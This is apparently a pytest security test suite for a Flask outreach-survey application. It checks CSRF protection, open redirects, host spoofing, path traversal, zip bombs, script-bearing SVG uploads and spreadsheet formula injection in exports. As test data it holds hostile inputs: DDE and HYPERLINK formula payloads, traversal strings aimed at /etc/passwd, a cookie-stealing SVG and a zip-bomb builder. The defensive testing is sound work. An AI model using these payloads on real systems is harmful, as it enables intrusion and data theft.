"""What an attacker tries first: forged requests, foreign hosts, paths out of a folder, archives that swell, pictures that are pages, formulas in cells."""

import csv
import io
import stat
import zipfile
from collections.abc import Callable
from pathlib import Path
from uuid import uuid4

import pytest
from flask import Flask
from flask.testing import FlaskClient
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from outreach.cli.main import main
from outreach.domain.imported import RowReport, Status
from outreach.domain.scope import Scope
from outreach.domain.spreadsheet import harmless
from outreach.errors import Problem
from outreach.exports.answers import write_csv, write_xlsx
from outreach.imports.report import report_file
from outreach.imports.table_archive import opened
from outreach.imports.workspace import Draft, Workspace
from outreach.services.bring_form import bring_form
from outreach.settings import Settings
from outreach.store.database import db
from outreach.store.sessions import read_transaction, write_transaction
from outreach.store.tables import Household, Round
from tests.server.test_forms import HABITAT, NOW, TOWNS, published
from tests.server.test_web_access import rules
from tests.server.web import LOGINS, PASSWORD, Office, csrf_token, sign_in
from tests.territory import Territory

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    "+1+1",
    "-1+1",
    "\t=1",
    "\r=1",
    "  =1",
    "＝1+1",
    '=HYPERLINK("https://ailleurs.example?"&A1)',
    "-2+3+cmd|' /C calc'!A0",
]
OUT = [
    "../secrets/secret-key",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "..\\..\\secrets",
    "/etc/passwd",
    "%00",
    "a/../../../../etc/passwd",
]


def test_no_request_that_changes_anything_passes_without_its_token(app: Flask, office: Office) -> None:
    """Every route of every method but GET, outside of the tablet API, whose callers bring no cookie."""
    client = sign_in(app.test_client(), "coordination")
    asked = [(endpoint, method, address) for endpoint, method, address in rules(app) if method != "GET" and not address.startswith("/api/")]
    assert len(asked) > 60
    of_somebody_else = csrf_token(app.test_client())
    for endpoint, method, address in asked:
        for headers in ({}, {"X-CSRFToken": of_somebody_else}):
            response = client.open(address, method=method, data={"csrf_token": ""}, headers=headers)
            assert response.status_code == 400, (endpoint, headers, response.status_code)
            assert "Rien n’a été modifié" in response.text, endpoint


def test_the_tablet_api_takes_no_cookie(app: Flask, office: Office) -> None:
    client = sign_in(app.test_client(), "coordination")
    for _endpoint, method, address in rules(app):
        if address.startswith("/api/") and not address.endswith(("openapi.json", "enrolments")):
            assert client.open(address, method=method, json={}).status_code == 401, address


@pytest.mark.parametrize("target", ["https://ailleurs.example", "//ailleurs.example", "/\\ailleurs.example", "/%09/ailleurs.example/", "javascript:alert(1)"])
def test_signing_in_leads_nowhere_else(app: Flask, office: Office, target: str) -> None:
    client = app.test_client()
    form = {"login": LOGINS["coordinator"], "password": PASSWORD, "csrf_token": csrf_token(client)}
    answer = client.post("/connexion", query_string={"next": target}, data=form)
    assert answer.status_code == 302
    assert "ailleurs" not in answer.location.replace("/%09/ailleurs.example/", "")
    assert answer.location.startswith("/")
    assert not answer.location.startswith(("//", "/\\"))


def test_a_foreign_host_reaches_no_page_and_no_link(app: Flask, office: Office, browser: Callable[[str], FlaskClient]) -> None:
    coordinator = browser("coordinator")
    assert coordinator.get("/tournees", base_url="http://ailleurs.example").status_code == 400
    assert coordinator.get("/tournees", headers={"X-Forwarded-Host": "ailleurs.example", "Forwarded": "host=ailleurs.example"}).status_code == 200
    page = coordinator.post(f"/comptes/{office.people['worker']}/lien", headers={"X-Forwarded-Host": "ailleurs.example"}, follow_redirects=True).text
    assert "http://127.0.0.1:8000/lien/" in page
    assert "ailleurs" not in page


@pytest.mark.parametrize("way_out", OUT)
def test_no_path_leads_out_of_its_folder(app: Flask, settings: Settings, browser: Callable[[str], FlaskClient], way_out: str) -> None:
    coordinator, secret = browser("coordinator"), settings.secret_key
    prefixes = (
        "/assets/office/",
        "/assets/apercu/",
        "/assets/maps/",
        "/tablette/",
        f"/questionnaires/versions/{uuid4()}/medias/",
        "/annuaire/fichiers/",
        "/fiches/",
    )
    for prefix in prefixes:
        response = coordinator.get(prefix + way_out)
        assert response.status_code in (302, 308, 400, 404), (prefix, response.status_code)
        assert "root:" not in response.text
        assert secret not in response.text
    tablet = app.test_client()
    for prefix in (f"/api/v1/forms/{'0' * 64}/media/", "/api/v1/files/"):
        assert tablet.get(f"{prefix}{way_out}/{'0' * 64}").status_code in (308, 400, 401, 404)


@pytest.mark.parametrize("name", ["../../evil.csv", "..\\..\\evil.csv", "/etc/cron.d/evil", ".bashrc", "..", "", "a\x00b.csv", "x" * 300])
def test_an_uploaded_file_stays_in_its_folder(tmp_path: Path, name: str) -> None:
    workspace = Workspace.create(tmp_path, Draft("entrances", "o", "p", "2026-01-01"))
    try:
        place = workspace.file(name).resolve()
    except Problem:
        return
    assert place.parent == (workspace.folder / "files").resolve()


def bomb(names: tuple[str, ...], size: int = 300 << 20) -> bytes:
    """A small archive that swells."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name in names:
            with archive.open(name, "w", force_zip64=True) as part:
                for _ in range(size >> 20):
                    part.write(bytes(1 << 20))
    return file.getvalue()


@pytest.mark.parametrize(
    ("name", "parts"),
    [
        ("a.xlsx", ("[Content_Types].xml", "xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml")),
        ("a.ods", ("mimetype", "content.xml")),
        ("a.zip", ("a.csv",)),
    ],
)
def test_an_archive_that_swells_is_refused_before_it_does(tmp_path: Path, name: str, parts: tuple[str, ...]) -> None:
    file = tmp_path / name
    file.write_bytes(bomb(parts[-1:]) if name == "a.zip" else bomb(parts, 80 << 20))
    assert file.stat().st_size < 1 << 20
    with pytest.raises(Problem) as raised:
        opened(file)
    assert raised.value.code == "file_unreadable"


@pytest.mark.parametrize("name", ["a.xlsx", "a.zip"])
def test_a_form_that_swells_is_refused(app: Flask, territory: Territory, name: str) -> None:
    with app.app_context(), write_transaction() as session, pytest.raises(Problem) as raised:
        bring_form(session, NOW, Scope(territory.centre.id), {name: bomb(("xl/worksheets/sheet1.xml",), 110 << 20)})
    assert raised.value.code == "form_unreadable"


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script></svg>'


def test_a_picture_that_is_a_page_is_only_ever_a_download(app: Flask, office: Office, browser: Callable[[str], FlaskClient]) -> None:
    form = HABITAT.replace("plan.png", "plan.svg").encode()
    with app.app_context(), write_transaction() as session:
        version = published(session, Scope(office.territory.centre.id), {"habitat.md": form, "villes.csv": TOWNS, "plan.svg": SVG})
        place, form_hash = f"/questionnaires/versions/{version.id}/medias/plan.svg", version.hash
    shown = browser("coordinator").get(place)
    assert shown.data == SVG
    assert shown.headers["Content-Disposition"] == "attachment"
    assert shown.headers["Content-Security-Policy"] == "default-src 'none'; sandbox"
    assert shown.headers["X-Content-Type-Options"] == "nosniff"
    told = f"/api/v1/forms/{form_hash}/media/plan.svg"
    assert browser("coordinator").get(told).status_code == 401, "a browser that is led there carries no bearer token"
    tablet = app.test_client().get(told, headers=office.territory.centre.tablets[0].headers)
    assert "script-src 'self'" in tablet.headers["Content-Security-Policy"]


@given(st.text(max_size=20) | st.sampled_from(FORMULAS) | st.from_regex(r"[=+\-@\t\r].{0,8}", fullmatch=True))
def test_no_text_is_a_formula(text: str) -> None:
    cell = harmless(text)
    assert cell in (text, f"'{text}")
    begins = cell.lstrip()[:1]
    assert begins not in tuple("=@＝＠") or not begins
    assert cell[:1] not in tuple("\t\r\n") or not cell
    if begins in tuple("+-＋－") and begins:
        float(cell.replace(",", "."))


@pytest.mark.parametrize("number", ["-3", "+3", "12", "-3.5", "2,75", "0612"])
def test_numbers_stay_numbers(number: str) -> None:
    assert harmless(number) == number


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_export_holds_a_formula(app: Flask, tmp_path: Path, territory: Territory, formula: str) -> None:
    scope = Scope(territory.centre.id)
    with app.app_context(), write_transaction() as session:
        session.get_one(Round, territory.centre.round).name = formula
        session.add(
            Household(
                id=uuid4(),
                organisation_id=territory.centre.id,
                round_id=territory.centre.round,
                entrance_id=territory.entrances[0],
                day=NOW.date(),
                form_id="essai",
                form_version="1",
                counted=True,
                answers={"lives_alone": formula, "people": "-3"},
                isolation="unknown",
            )
        )
    _add_form(app)
    as_csv, as_xlsx = io.BytesIO(), io.BytesIO()
    with app.app_context(), read_transaction() as session:
        write_csv(session, scope, "essai", as_csv)
        write_xlsx(session, scope, "essai", as_xlsx)
    as_csv.seek(0)
    rows = list(csv.reader(io.TextIOWrapper(as_csv, "utf-8-sig", newline=""), delimiter=";"))
    assert len(rows) == 2
    assert rows[1].count(f"'{formula}") == 2, "the round, and the answer"
    assert "-3" in rows[1], "a number stays one"
    assert "" in rows[1], "no answer is no cell"
    assert all(cell == harmless(cell) or cell.startswith("'") for row in rows for cell in row)
    for row in load_workbook(as_xlsx)["reponses"].iter_rows():
        assert all(cell.data_type in ("s", "inlineStr") for cell in row), "texts, never formulas"
    report = tmp_path / "report.csv"
    with report_file(report) as write:
        assert write is not None
        write(RowReport(1, formula, Status.ADDED))
    with report.open(encoding="utf-8-sig", newline="") as file:
        assert list(csv.reader(file, delimiter=";"))[1][2] == f"'{formula}"


def _add_form(app: Flask) -> None:
    from tests.territory import add_form

    with app.app_context():
        add_form(db.session())
        db.session.commit()


def test_secrets_are_made_by_init_and_never_assumed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from click.testing import CliRunner

    with pytest.raises(Problem) as raised:
        Settings.from_environment({"PALIER_HOME": str(tmp_path / "nothing")})
    assert raised.value.code == "not_initialised"
    made = []
    for home in (tmp_path / "one", tmp_path / "other"):
        monkeypatch.setenv("PALIER_HOME", str(home))
        names = ["--organisation", "Essai", "--coordinator", "C", "--coordinator-login", "coco", "--administrator", ""]
        assert CliRunner().invoke(main, ["init", *names]).exit_code == 0
        settings = Settings.from_environment({"PALIER_HOME": str(home)})
        assert len(settings.secret_key) >= 43
        assert all(stat.S_IMODE(path.stat().st_mode) == 0o600 for path in (home / "secrets").iterdir())
        made.append({path.read_text() for path in (home / "secrets").iterdir()})
        for name in ("secret-key", "transport-identity"):
            path = home / "secrets" / name
            kept = path.read_text()
            path.unlink()
            with pytest.raises(Problem):
                Settings.from_environment({"PALIER_HOME": str(home)})
            path.write_text(kept)
    assert not made[0] & made[1]
